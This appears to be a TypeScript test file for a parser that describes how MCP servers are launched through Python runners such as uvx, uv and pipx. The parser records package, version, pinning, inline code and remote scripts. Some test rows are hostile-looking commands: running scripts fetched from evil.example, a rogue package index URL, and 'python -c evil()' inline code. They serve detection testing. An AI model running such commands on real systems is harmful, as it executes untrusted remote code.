// Python runners and the interpreter itself.
import assert from "node:assert/strict";
import { test } from "node:test";
import { describeLaunch } from "../../src/facts/launch/describe_launch.ts";
import type { Launch, Package } from "../../src/generated/event.ts";

/** Words of the command line, what differs from a plain program on the search path, and the package. */
type Row = readonly [words: readonly string[], launch: Partial<Launch>, pkg?: Package];

const PLAIN = { location: "search_path", wrappers: [], elevated: false };

const ROWS: readonly Row[] = [
  [
    ["uvx", "mcp-server-git", "--repository", "C:/x"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "mcp-server-git", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["uvx", "mcp-server-time@1.2.3", "--local-timezone=Asia/Tokyo"],
    { program: "uvx" },
    {
      runner: "uvx",
      registry: "pypi",
      name: "mcp-server-time",
      version: "1.2.3",
      pinned: true,
      pointer: "/server/args/0",
    },
  ],
  [
    ["uvx", "pkg@latest"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "latest", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["uvx", "Pkg_Name==1.2.3"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg-name", version: "1.2.3", pinned: true, pointer: "/server/args/0" },
  ],
  [
    ["uvx", "pkg==1.*"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "==1.*", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["uvx", "--python", "3.12", "pkg==1.2.3"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.2.3", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["uvx", "-p3.12", "pkg==1.2.3"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.2.3", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["uvx", "--index-url", "https://evil.example/simple", "pkg==1.2.3"],
    { program: "uvx" },
    {
      runner: "uvx",
      registry: "pypi",
      name: "pkg",
      version: "1.2.3",
      pinned: true,
      registry_url: "https://evil.example/simple",
      pointer: "/server/args/2",
    },
  ],
  [
    ["uvx", "--refresh", "--from", "pkg[cli]==1.2.3", "pkg-cli"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.2.3", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["uvx", "--from=git+https://github.com/a/b@0123456789abcdef0123456789abcdef01234567", "b"],
    { program: "uvx" },
    {
      runner: "uvx",
      registry: "git",
      name: "https://github.com/a/b",
      version: "0123456789abcdef0123456789abcdef01234567",
      pinned: true,
      pointer: "/server/args/0",
    },
  ],
  [
    ["uvx", "--from", "git+https://u:tok@github.com/a/b@main", "b"],
    { program: "uvx" },
    {
      runner: "uvx",
      registry: "git",
      name: "https://github.com/a/b",
      version: "main",
      pinned: false,
      pointer: "/server/args/1",
    },
  ],
  [
    ["uvx", "--with", "other", "pkg==1.2.3"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "other", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["uvx", "--with", "other==1.0", "pkg==1.2.3"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.2.3", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["uvx", "--with-editable", "./x", "pkg==1.2.3"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.2.3", pinned: false, pointer: "/server/args/2" },
  ],
  [
    ["uvx", "--weird", "pkg==1.2.3", "other==1.0"],
    { program: "uvx" },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.2.3", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["uvx", "--from", "pkg==1.0", "python", "-c", "evil()"],
    { program: "uvx", inline_code: { program: "python", flag: "-c", pointer: "/server/args/4" } },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["uvx", "python", "-c", "evil()"],
    { program: "uvx", inline_code: { program: "python", flag: "-c", pointer: "/server/args/2" } },
    { runner: "uvx", registry: "pypi", name: "python", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["uvx", "./local"],
    { program: "uvx" },
    { runner: "uvx", registry: "path", name: "./local", pinned: false, pointer: "/server/args/0" },
  ],
  [["uvx"], { program: "uvx" }],
  [
    ["uv", "tool", "run", "arxiv-mcp-server", "--storage-path", "."],
    { program: "uv" },
    { runner: "uv", registry: "pypi", name: "arxiv-mcp-server", pinned: false, pointer: "/server/args/2" },
  ],
  [
    ["uv", "--directory", "/srv/app", "run", "server.py"],
    { program: "uv", script: { path: "server.py", pointer: "/server/args/3" } },
  ],
  [["uv", "run", "--directory", "/srv/app", "server"], { program: "server", wrappers: ["uv"] }],
  [
    ["uv", "run", "--with", "mcp==1.0.0", "mcp", "run", "server.py"],
    { program: "mcp", wrappers: ["uv"] },
    { runner: "uv", registry: "pypi", name: "mcp", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
  [["uv", "run", "-m", "pkg.server"], { program: "uv" }],
  [
    ["uv", "run", "python", "-c", "evil()"],
    { program: "python", wrappers: ["uv"], inline_code: { program: "python", flag: "-c", pointer: "/server/args/3" } },
  ],
  [
    ["uv", "run", "https://evil.example/x.py"],
    { program: "uv", script: { path: "https://evil.example/x.py", pointer: "/server/args/1" } },
    { runner: "uv", registry: "url", name: "https://evil.example/x.py", pinned: false, pointer: "/server/args/1" },
  ],
  [["uv", "sync"], { program: "uv" }],
  [
    ["pipx", "run", "--spec", "pkg[cli]===1.0", "pkg"],
    { program: "pipx" },
    { runner: "pipx", registry: "pypi", name: "pkg", version: "1.0", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["pipx", "run", "pkg==1.0"],
    { program: "pipx" },
    { runner: "pipx", registry: "pypi", name: "pkg", version: "1.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["pipx", "run", "https://evil.example/x.py"],
    { program: "pipx", script: { path: "https://evil.example/x.py", pointer: "/server/args/1" } },
    { runner: "pipx", registry: "url", name: "https://evil.example/x.py", pinned: false, pointer: "/server/args/1" },
  ],
  [["pipx", "list"], { program: "pipx" }],
  [
    ["pip-run", "a==1.0", "b", "--", "-c", "evil()"],
    { program: "pip-run", inline_code: { program: "python", flag: "-c", pointer: "/server/args/4" } },
    { runner: "pip-run", registry: "pypi", name: "a", version: "1.0", pinned: false, pointer: "/server/args/0" },
  ],
  [["python", "-m", "knos.mcp"], { program: "python" }],
  [
    ["python", "-m", "pipx", "run", "pkg==1"],
    { program: "pipx", wrappers: ["python"] },
    { runner: "pipx", registry: "pypi", name: "pkg", version: "1", pinned: true, pointer: "/server/args/3" },
  ],
  [
    ["python3", "server.py", "-c", "x"],
    { program: "python3", script: { path: "server.py", pointer: "/server/args/0" } },
  ],
  [
    ["python3.12", "-u", "-Ic", "evil()"],
    { program: "python3.12", inline_code: { program: "python3.12", flag: "-c", pointer: "/server/args/2" } },
  ],
  [["py", "-3.11", "server.py"], { program: "py", script: { path: "server.py", pointer: "/server/args/1" } }],
  [
    ["C:\\venv\\Scripts\\python.exe", "-X", "utf8", "server.py"],
    {
      program: "python",
      location: "absolute",
      directory: "C:/venv/Scripts",
      script: { path: "server.py", pointer: "/server/args/2" },
    },
  ],
  [["python"], { program: "python" }],
];

for (const [words, launch, pkg] of ROWS) {
  const [command = "", ...args] = words;
  test(`describeLaunch reads ${JSON.stringify(words).slice(0, 120)}`, () => {
    const described = describeLaunch({ command, args });
    // `exact` has its own table in launch_exact.test.ts.
    const expected = pkg === undefined ? {} : { package: { exact: described.package?.exact, ...pkg } };
    assert.deepEqual(described, { launch: { ...PLAIN, ...launch }, ...expected });
  });
}
